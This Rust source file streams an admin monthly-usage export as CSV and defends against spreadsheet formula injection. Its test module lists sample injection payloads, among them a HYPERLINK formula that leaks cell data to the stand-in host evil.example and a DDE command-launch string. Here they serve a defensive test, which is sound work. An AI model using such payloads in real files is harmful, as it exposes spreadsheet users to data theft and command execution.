//! The month's usage as CSV (`GET /admin/v1/usage/export`, SPEC §14), streamed.
//!
//! The body is made page by page: [`PAGE`] accounts with usage that month, in id order
//! (keyset over `usage_counter`'s month index), their plan and allowance judged as the
//! usage object judges them (`usage::report::standings`), written as CSV rows and sent
//! before the next page is read. Memory stays one page whatever the number of
//! accounts; the client's pace paces the reads (the body is pulled).

use bytes::Bytes;
use chrono::{DateTime, SecondsFormat, Utc};
use futures_util::Stream;
use sqlx::PgPool;

use crate::month::Month;
use crate::usage::report::standings;

/// Accounts read and written per page.
pub const PAGE: i64 = 1_000;

/// The header row.
pub const HEADER: [&str; 8] = [
    "account_id",
    "email",
    "plan",
    "allowance",
    "used",
    "calls",
    "credits_spent",
    "month_start",
];

/// One account's line.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Line {
    account_id: i64,
    email: String,
    used: i64,
    calls: i64,
    credits_spent: i64,
}

/// Where the stream is.
struct Cursor {
    db: PgPool,
    month: Month,
    now: DateTime<Utc>,
    free_monthly_calls: i64,
    after: Option<i64>,
}

/// The CSV of `month`: the header, then one row per account with usage that month.
pub fn stream(
    db: PgPool,
    month: Month,
    now: DateTime<Utc>,
    free_monthly_calls: i64,
) -> impl Stream<Item = Result<Bytes, sqlx::Error>> + Send + 'static {
    let start = Cursor {
        db,
        month,
        now,
        free_monthly_calls,
        after: None,
    };
    futures_util::stream::try_unfold(start, |mut cursor| async move {
        let Some(after) = cursor.after else {
            cursor.after = Some(0);
            return Ok(Some((rows(&[HEADER.map(str::to_owned)]), cursor)));
        };
        let page = page(&cursor, after).await?;
        if page.is_empty() {
            return Ok(None);
        }
        cursor.after = page.last().map(|line| line.account_id);
        let body = page_rows(&cursor, page).await?;
        Ok(Some((body, cursor)))
    })
}

/// The next page of accounts with usage in the month, after account id `after`.
async fn page(cursor: &Cursor, after: i64) -> Result<Vec<Line>, sqlx::Error> {
    let rows: Vec<(i64, String, i64, i64, i64)> = sqlx::query_as(
        "SELECT c.account_id, a.email, c.used, coalesce(d.calls, 0)::bigint, c.credits_spent
         FROM usage_counter c
         JOIN account a ON a.id = c.account_id
         LEFT JOIN LATERAL (SELECT sum(calls) AS calls FROM usage_daily d
                            WHERE d.account_id = c.account_id
                              AND d.day_start >= $1 AND d.day_start < $2) d ON true
         WHERE c.month_start = $1 AND c.account_id > $3
         ORDER BY c.account_id
         LIMIT $4",
    )
    .bind(cursor.month.start())
    .bind(cursor.month.end())
    .bind(after)
    .bind(PAGE)
    .fetch_all(&cursor.db)
    .await?;
    Ok(rows
        .into_iter()
        .map(|(account_id, email, used, calls, credits_spent)| Line {
            account_id,
            email,
            used,
            calls,
            credits_spent,
        })
        .collect())
}

/// A page as CSV rows, with each account's plan and allowance in the month.
async fn page_rows(cursor: &Cursor, page: Vec<Line>) -> Result<Bytes, sqlx::Error> {
    let ids: Vec<i64> = page.iter().map(|l| l.account_id).collect();
    let mut conn = cursor.db.acquire().await?;
    let by_id: std::collections::HashMap<i64, (String, i64)> = standings(
        &mut conn,
        &ids,
        cursor.month,
        cursor.now,
        cursor.free_monthly_calls,
    )
    .await?
    .into_iter()
    .map(|s| (s.account_id, (s.plan, s.allowance)))
    .collect();
    let month_start = cursor
        .month
        .start()
        .to_rfc3339_opts(SecondsFormat::Secs, true);
    let lines: Vec<[String; 8]> = page
        .into_iter()
        .map(|line| {
            let (plan, allowance) = by_id
                .get(&line.account_id)
                .cloned()
                .unwrap_or_else(|| (crate::usage::rules::FREE_PLAN.to_owned(), 0));
            [
                line.account_id.to_string(),
                text_cell(line.email),
                text_cell(plan),
                allowance.to_string(),
                line.used.to_string(),
                line.calls.to_string(),
                line.credits_spent.to_string(),
                month_start.clone(),
            ]
        })
        .collect();
    Ok(rows(&lines))
}

/// A text cell a spreadsheet will not read as a formula: one that begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP, "CSV Injection").
/// Numbers and timestamps are written by the product and never need it.
fn text_cell(text: String) -> String {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{text}"),
        _ => text,
    }
}

/// Records as CSV (RFC 4180: fields quoted when they hold a comma, a quote or a line
/// break, quotes doubled), each line ended by CRLF.
fn rows(records: &[[String; 8]]) -> Bytes {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(records.len() * 96));
    for record in records {
        // Writing to a Vec cannot fail.
        let _ = writer.write_record(record);
    }
    Bytes::from(writer.into_inner().unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(email: &str, plan: &str) -> [String; 8] {
        [
            "7".into(),
            email.into(),
            plan.into(),
            "100".into(),
            "3".into(),
            "3".into(),
            "0".into(),
            "2026-11-01T00:00:00Z".into(),
        ]
    }

    #[test]
    fn plain_fields_are_written_as_they_are() {
        let out = rows(&[record("a@example.com", "pro")]);
        assert_eq!(
            &out[..],
            b"7,a@example.com,pro,100,3,3,0,2026-11-01T00:00:00Z\r\n"
        );
    }

    #[test]
    fn commas_quotes_and_line_breaks_are_quoted() {
        let out = rows(&[record("\"a,b\"@example.com", "gold\nplus")]);
        assert_eq!(
            &out[..],
            b"7,\"\"\"a,b\"\"@example.com\",\"gold\nplus\",100,3,3,0,2026-11-01T00:00:00Z\r\n"
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        let formulas = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Click\")@x.com",
            "=cmd|'/ccalc'!a0@x.com",
            "+1+1@x.com",
            "-2+3@x.com",
            "@SUM(A1)@x.com",
            "\tx@x.com",
            "\rx@x.com",
        ];
        for email in formulas {
            assert_eq!(text_cell(email.to_owned()), format!("'{email}"));
        }
        for plain in ["a@example.com", "a=b@example.com", "pro", ""] {
            assert_eq!(text_cell(plain.to_owned()), plain);
        }
        let out = rows(&[record(&text_cell("=1+1@x.com".into()), "pro")]);
        assert!(out.starts_with(b"7,'=1+1@x.com,pro,"), "{out:?}");
    }

    #[test]
    fn the_header_names_the_contract_columns() {
        let out = rows(&[HEADER.map(str::to_owned)]);
        assert_eq!(
            &out[..],
            b"account_id,email,plan,allowance,used,calls,credits_spent,month_start\r\n"
        );
    }
}
